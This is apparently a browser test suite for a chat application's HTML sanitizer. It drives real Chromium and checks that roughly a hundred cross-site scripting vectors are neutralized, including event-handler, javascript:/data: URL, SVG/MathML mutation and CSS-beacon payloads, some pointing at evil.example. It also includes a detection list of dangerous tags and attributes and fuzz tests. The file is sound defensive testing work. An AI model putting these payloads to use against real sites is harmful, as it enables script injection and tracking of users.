import fc from 'fast-check'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchChromium } from './browser.ts'
import { addModule } from './module-script.ts'

// The sanitizer in a real Chromium, because an attack has to get past the parser of a real browser.

let browser: Browser
let page: Page

beforeAll(async () => {
  browser = await launchChromium()
  page = await browser.newPage()
  await page.setContent('<!doctype html><title>A page</title><div id="holder"></div>')
  await addModule(page, 'sanitizer', 'sanitize.ts')
})

afterAll(() => browser.close())

/** The content of the page after each text was sanitized and shown. */
interface Shown {
  readonly html: string
  /** Elements and attributes that must never be there. */
  readonly dangers: readonly string[]
}

const show = (texts: readonly string[]): Promise<Shown[]> =>
  page.evaluate(async (all) => {
    const { sanitizer } = globalThis as unknown as {
      sanitizer: { sanitize(html: string, accountId: string): DocumentFragment }
    }
    const holder = document.getElementById('holder')
    if (holder === null) throw new Error('no holder')
    let hits = 0
    Object.assign(window, { hit: () => hits++, alert: () => hits++ })
    const results: { html: string; dangers: string[] }[] = []
    for (const text of all) {
      // As messages are shown, and the result of serializing and parsing that once more.
      holder.replaceChildren(sanitizer.sanitize(text, 'a1'))
      const html = holder.innerHTML
      const again = document.createElement('div')
      again.innerHTML = html
      const dangers: string[] = []
      for (const node of [...holder.querySelectorAll('*'), ...again.querySelectorAll('*')]) {
        if (
          /^(script|style|iframe|object|embed|form|input|button|textarea|select|link|meta|base|template|svg:script|foreignobject|use|animate|set|noscript|xmp|title)$/i.test(
            node.tagName,
          )
        )
          dangers.push(node.tagName)
        // However it is written, no element leaves its place in the message, and nothing is loaded.
        if (holder.contains(node)) {
          const { position, backgroundImage } = getComputedStyle(node)
          if (position !== 'static' && position !== 'relative') dangers.push(`position ${position}`)
          if (backgroundImage !== 'none') dangers.push(`background ${backgroundImage}`)
        }
        for (const { name, value } of node.attributes) {
          if (
            /^on/i.test(name) ||
            [
              'srcdoc',
              'srcset',
              'formaction',
              'action',
              'background',
              'ping',
              'id',
              'name',
              'target',
              'xlink:href',
              'poster',
            ].includes(name)
          )
            dangers.push(`${node.tagName} ${name}`)

          const address = value.replaceAll(/[\u0000-\u0020]/g, '')
          if (
            (name === 'href' || name === 'src') &&
            /^(javascript|vbscript|data|blob|file|filesystem):/i.test(address)
          )
            dangers.push(`${name}=${value}`)
          if ((name === 'src' || name === 'href') && /^\/\//.test(address)) dangers.push(`${name}=${value}`)
          if (name === 'src' && !/^\.?\/media\//.test(value)) dangers.push(`src=${value}`)
          if (name === 'style' && /url|expression|fixed|import|@/i.test(value)) dangers.push(`style=${value}`)
        }
      }
      results.push({ html, dangers })
    }
    // By now, any script would have run.
    await new Promise((done) => setTimeout(done, 20))
    if (hits > 0) results.push({ html: '', dangers: [`${hits} scripts ran`] })
    return results
  }, texts)

const vectors = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=hit()>',
  '<img src=x onerror="hit()" class="emoji">',
  '<img/src=`x`onerror=hit()>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<img src=x:x onerror=&#104;it()>',
  '<img srcset="data:image/svg+xml,<svg onload=hit()>">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><script xlink:href="data:,hit()"/></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:hit()" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>hit()</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<svg><p><style><g title="</style><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">',
  '<math href="javascript:hit()">x</math>',
  '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:hit()">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<a href="JaVaScRiPt:hit()">x</a>',
  '<a href="java\nscript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<a href="&#106;avascript:hit()">x</a>',
  '<a href="javascript&colon;hit()">x</a>',
  '<a href=" javascript:hit()">x</a>',
  '<a href="\u0001javascript:hit()">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:http://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="dunlin://message?x">x</a>',
  '<a href="https://ok.example" target="_blank" onclick="hit()">x</a>',
  '<a href="https://ok.example" ping="//evil.example">x</a>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<embed src="javascript:hit()">',
  '<embed src="data:image/svg+xml,<svg onload=hit() xmlns=\'http://www.w3.org/2000/svg\'/>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<link rel="stylesheet" href="data:text/css,*{background:red}">',
  '<link rel="import" href="//evil.example">',
  '<style>@import "//evil.example"; *{display:none}</style>',
  '<div style="background:url(javascript:hit())">x</div>',
  '<div style="background-image:url(//evil.example/beacon)">x</div>',
  '<div style="position:fixed;left:0;top:0;width:9999px;height:9999px">x</div>',
  '<div style="width:expression(hit())">x</div>',
  '<p style="text-align:center;background:url(//evil)">x</p>',
  '<span class="katex"><span style="height:1em;background:url(//evil)">x</span></span>',
  '<span class="katex"><span style="position:fixed;top:0">x</span></span>',
  String.raw`<span class="katex"><span style="position:\66 ixed;top:0">x</span></span>`,
  String.raw`<span class="katex"><span style="p\6fsition:fix\65 d;top:0">x</span></span>`,
  '<span class="katex"><span style="position:/**/fix/**/ed;position:absolute;top:0">x</span></span>',
  '<span class="katex"><span style="position:sticky;top:0">x</span></span>',
  String.raw`<span class="katex"><span style="background-image:u\72l(//evil.example/beacon);height:1em">x</span></span>`,
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()>',
  '<textarea autofocus onfocus=hit()>',
  '<button formaction="javascript:hit()">x</button>',
  '<form action="javascript:hit()"><input type=submit></form>',
  '<form id="document"><input name="body"></form>',
  '<img name="getElementById" id="holder">',
  '<body onload=hit()>',
  '<html onmouseover=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<marquee onstart=hit()>x</marquee>',
  '<video src=x onerror=hit()></video>',
  '<video><source onerror=hit() src=x></video>',
  '<video poster="javascript:hit()"></video>',
  '<audio src=x onerror=hit()></audio>',
  '<audio src="javascript:hit()"></audio>',
  '<table background="javascript:hit()"><tr><td>x</td></tr></table>',
  '<div onpointerenter=hit()>x</div>',
  '<div onanimationstart=hit() style="animation:x">x</div>',
  '<p><noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<noscript><img src=x onerror=hit()></noscript>',
  '<template><img src=x onerror=hit()></template>',
  '<xmp><img src=x onerror=hit()></xmp>',
  '<title><img src=x onerror=hit()></title>',
  '<textarea></textarea><img src=x onerror=hit()>',
  '<!--><img src=x onerror=hit()>-->',
  '<!--[if IE]><img src=x onerror=hit()><![endif]-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml version="1.0"?><img src=x onerror=hit()>',
  '<img src="https://evil.example/beacon.png">',
  '<img src="//evil.example/beacon.png">',
  '<img src="data:image/svg+xml,<svg onload=hit() xmlns=\'http://www.w3.org/2000/svg\'/>">',
  '<span class="emoji emoji-110000">x</span>',
  '<span class="emoji emoji-3c-73-63">x</span>',
  '<div is="x-y" slot="z">x</div>',
  '<a href="#" rel="opener">x</a>',
  '<p data-bind="hit()" data-x="y">x</p>',
  `<p>${'<b>'.repeat(3_000)}deep${'</b>'.repeat(3_000)}</p>`,
]

test('no known vector gets past it', async () => {
  expect(vectors.length).toBeGreaterThanOrEqual(90)
  const shown = await show(vectors)
  expect(shown.flatMap(({ dangers }, index) => dangers.map((danger) => [vectors[index], danger]))).toEqual([])
})

test('nothing put together at random gets past it, and what came out is not changed again', async () => {
  const name = fc.constantFrom(
    ...'a b p div span img svg math style script table td form mtext mglyph noscript title template annotation-xml foreignObject iframe path details textarea'.split(
      ' ',
    ),
  )
  const attribute = fc.constantFrom(
    'onerror=hit()',
    'onload="hit()"',
    'href="javascript:hit()"',
    'src=x',
    'src="/user_uploads/1/x.png"',
    'style="position:fixed"',
    'class="katex"',
    'title="</style><img src=x onerror=hit()>"',
    'id=x',
    'xlink:href="data:,x"',
    'data-user-id="3"',
    'encoding="text/html"',
  )
  const piece: fc.Arbitrary<string> = fc.oneof(
    fc.tuple(name, fc.array(attribute, { maxLength: 3 })).map(([tag, list]) => `<${tag} ${list.join(' ')}>`),
    name.map((tag) => `</${tag}>`),
    fc.constantFrom('<!--', '-->', '<![CDATA[', ']]>', '&lt;', '"', "'", '`', '\u0000', 'text', '<'),
  )
  const texts = fc.sample(
    fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join('')),
    { numRuns: 3_000, seed: 20_261_121 },
  )
  const shown = await show(texts)
  expect(shown.flatMap(({ dangers }, index) => dangers.map((danger) => [texts[index], danger]))).toEqual([])
  const again = await show(shown.map(({ html }) => html.replaceAll(/\.?\/media\/a1\?url=[^"]*/g, '/x')))
  const plain = (html: string) => html.replaceAll(/\.?\/media\/a1\?url=[^"]*/g, '/x')
  expect(again.map(({ html }) => plain(html))).toEqual(shown.map(({ html }) => plain(html)))
})

test.each([
  ['<p>one <strong>two</strong> <em>three</em> <del>four</del></p>'],
  ['<p><span class="user-mention" data-user-id="7">@Keiko Tamura</span></p>'],
  ['<p><span class="user-mention channel-wildcard-mention" data-user-id="*">@all</span></p>'],
  ['<p><span class="user-group-mention" data-user-group-id="12">@crew</span></p>'],
  ['<p>at <time datetime="2026-11-21T13:30:00Z">2026-11-21T13:30:00Z</time></p>'],
  [
    '<div class="codehilite" data-code-language="Python"><pre><span></span><code><span class="k">if</span> x:\n</code></pre></div>',
  ],
  [
    '<div class="spoiler-block"><div class="spoiler-header">\n<p>why</p>\n</div><div class="spoiler-content" aria-hidden="true">\n<p>so</p>\n</div></div>',
  ],
  [
    '<table><thead><tr><th style="text-align: right;">a</th></tr></thead><tbody><tr><td style="text-align: right;">1</td></tr></tbody></table>',
  ],
  ['<ol start="3"><li>three</li></ol>'],
  ['<blockquote><p>said</p></blockquote><hr>'],
  ['<span class="katex"><span class="strut" style="height: 0.6887em;"></span></span>'],
])('what messages are made of stays as it is: %s', async (html) => {
  const [shown] = await show([html])
  expect(shown?.html.replaceAll(/style="([^"]*?);?"/g, 'style="$1"')).toBe(
    html.replaceAll(/style="([^"]*?);?"/g, 'style="$1"'),
  )
})

test('the picture of a previewed website comes through the host too, and its style is left behind', async () => {
  const embed = (style: string) =>
    `<div class="message_embed"><a class="message_embed_image" href="https://example.org/" style="${style}"></a></div>`
  const [shown, ...others] = await show([
    embed('background-image: url(&quot;https://example.org/a.png?x=1&amp;y=2&quot;); position: fixed'),
    embed('background-image: url(javascript:hit())'),
    embed('background-image: url(//evil.example/beacon)'),
    '<div class="x" style="background-image: url(https://evil.example/beacon)">x</div>',
  ])
  expect(shown?.html).toMatch(
    /<a class="message_embed_image" href="https:\/\/example\.org\/" rel="noopener noreferrer"><img alt="" src="\.?\/media\/a1\?url=https%3A%2F%2Fexample\.org%2Fa\.png%3Fx%3D1%26y%3D2"><\/a>/,
  )
  expect(shown?.html).not.toContain('style')
  for (const { html } of others) expect(html).not.toMatch(/img|style/)
  expect([shown, ...others].flatMap((one) => one?.dangers)).toEqual([])
})

test('links lose their window, and pictures come through the host', async () => {
  const [link, picture] = await show([
    '<a href="https://example.org/x" target="_blank">x</a>',
    '<div class="message_inline_image"><a href="/user_uploads/1/a.png" title="a.png"><img data-original-dimensions="640x480" src="/user_uploads/thumbnail/1/a.png/840x560.webp"></a></div>',
  ])
  expect(link?.html).toBe('<a href="https://example.org/x" rel="noopener noreferrer">x</a>')
  expect(picture?.html).toContain('data-original-dimensions="640x480"')
  expect(picture?.html).toMatch(/src="\.?\/media\/a1\?url=%2Fuser_uploads%2Fthumbnail/)
})
